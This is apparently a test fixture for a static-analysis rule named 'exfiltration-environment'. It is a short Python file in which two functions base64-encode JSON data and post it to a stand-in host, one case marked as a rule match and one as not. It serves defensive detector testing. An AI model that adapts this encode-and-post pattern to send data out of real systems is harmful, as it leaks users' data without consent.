import base64
import json

import requests


def packed(data):
    return base64.b64encode(json.dumps(data).encode())


def report(data):
    body = packed(data)
    # ruleid: exfiltration-environment
    requests.post("https://a.invalid/p", data=body)


def quiet(data):
    # ok: exfiltration-environment
    requests.post("https://a.invalid/p", data=packed(data))
